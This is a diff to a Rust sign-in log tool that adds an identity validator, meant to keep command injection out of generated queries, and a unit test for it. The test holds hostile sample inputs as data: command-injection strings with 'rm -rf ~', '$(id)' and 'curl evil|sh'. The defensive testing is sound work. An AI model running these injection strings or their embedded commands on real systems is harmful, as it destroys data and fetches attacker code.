@@ -43,8 +43,25 @@ fn la_table(k: Kind) -> &'static str {
     }
 }
 
+/// An identity value that may go into a generated command: a GUID (normalized), or a UPN
+/// of plain characters. Anything else (log content is attacker-controlled) is left out, so
+/// a copied command can never carry injected shell, URL or KQL syntax.
+pub fn safe_identity(who: &str) -> Option<String> {
+    if let Some(g) = tokentrail_model::Guid::parse(who) {
+        return Some(g.to_string());
+    }
+    let ok = who.len() <= 256
+        && who.contains('@')
+        && who
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '@'));
+    ok.then(|| who.to_ascii_lowercase())
+}
+
 /// Commands that fetch sign-ins of `kind` for `who` around `at` (±`hours`).
 pub fn commands(kind: Kind, who: Option<&str>, at: Timestamp, hours: i64) -> Vec<Command> {
+    let who_owned = who.and_then(safe_identity);
+    let who = who_owned.as_deref();
     let from = at - SignedDuration::from_hours(hours);
     let to = at + SignedDuration::from_hours(1);
     let fmt = |t: Timestamp| t.strftime("%Y-%m-%dT%H:%M:%SZ").to_string();
@@ -172,4 +189,27 @@ pub fn diagnose(
         }
     }
     gaps
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn hostile_identities_never_reach_commands() {
+        assert_eq!(
+            safe_identity("3C9E1F7A2B4D4E6F8A1C5D7E9F0A1B2C").as_deref(),
+            Some("3c9e1f7a-2b4d-4e6f-8a1c-5d7e9f0a1b2c")
+        );
+        assert_eq!(
+            safe_identity("Dana.Ops@fabrikam.example").as_deref(),
+            Some("dana.ops@fabrikam.example")
+        );
+        for bad in ["x\"; rm -rf ~; \"@a", "a'b@c", "$(id)@x", "a b@c", "<s>@x"] {
+            assert!(safe_identity(bad).is_none(), "{bad}");
+        }
+        let at: Timestamp = "2024-06-10T06:00:00Z".parse().unwrap();
+        let c = commands(Kind::NonInteractive, Some("x\"; curl evil|sh; \"@a"), at, 2);
+        assert!(c.iter().all(|c| !c.command.contains("curl")));
+    }
 }
